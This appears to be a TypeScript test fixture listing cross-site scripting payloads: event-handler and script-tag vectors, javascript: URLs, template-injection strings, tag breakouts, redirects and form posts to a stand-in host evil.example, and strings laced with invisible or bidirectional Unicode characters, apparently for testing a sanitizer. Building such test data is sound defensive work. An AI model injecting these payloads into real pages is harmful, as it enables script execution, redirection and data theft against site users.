/** Markup and script that run as soon as somebody takes them for a part of the page, or of a template. */
export const MARKUP: readonly string[] = [
  "<script>window.__pwn=1</script>",
  "<img src=x onerror=window.__pwn=1>",
  "<svg onload=window.__pwn=1>",
  "<svg><script>window.__pwn=1</script></svg>",
  "<iframe srcdoc='<script>parent.__pwn=1</script>'></iframe>",
  "<iframe src=javascript:parent.__pwn=1></iframe>",
  "<object data=javascript:window.__pwn=1></object>",
  "<embed src=javascript:window.__pwn=1>",
  "<a href=javascript:window.__pwn=1>click</a>",
  "<body onload=window.__pwn=1>",
  "<details open ontoggle=window.__pwn=1>",
  "<input autofocus onfocus=window.__pwn=1>",
  "<video><source onerror=window.__pwn=1></video>",
  "<audio src=x onerror=window.__pwn=1>",
  "<math><mi xlink:href=javascript:window.__pwn=1>x</mi></math>",
  "<style>*{background:url(javascript:window.__pwn=1)}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example/>",
  "<form action=//evil.example/><button>go</button></form>",
  "<template><img src=x onerror=window.__pwn=1></template>",
  "<noscript><p title='</noscript><img src=x onerror=window.__pwn=1>'>",
  "<!--><img src=x onerror=window.__pwn=1>-->",
  "</td></tr></table><img src=x onerror=window.__pwn=1>",
  '"><img src=x onerror=window.__pwn=1>',
  "'><img src=x onerror=window.__pwn=1>",
  '" onmouseover=window.__pwn=1 x="',
  "' autofocus onfocus=window.__pwn=1 x='",
  "</option></select><img src=x onerror=window.__pwn=1>",
  "</title><script>window.__pwn=1</script>",
  "javascript:window.__pwn=1",
  "data:text/html,<script>window.__pwn=1</script>",
  "{@html '<img src=x onerror=window.__pwn=1>'}",
  "{{constructor.constructor('window.__pwn=1')()}}",
  "${window.__pwn=1}",
  "&lt;img src=x onerror=window.__pwn=1&gt;",
  "__proto__",
  "constructor",
  "{value}",
  "%s%n$1$&\\1",
];

/** Characters that nobody sees, and that show, hide, turn or break something else than what is written. */
const HIDDEN =
  "0000 0007 0008 0009 000b 000c 001b 007f 0080 0085 009b 00ad 061c 200b 200c 200d 200e 200f 2028 2029 202a 202b 202d 202e 2060 2066 2067 2069 feff e0041";

export const DISGUISE: readonly string[] = HIDDEN.split(" ").map(
  (code) => `a${String.fromCodePoint(Number.parseInt(code, 16))}b${code}`,
);

export const PAYLOADS: readonly string[] = [...MARKUP, ...DISGUISE];
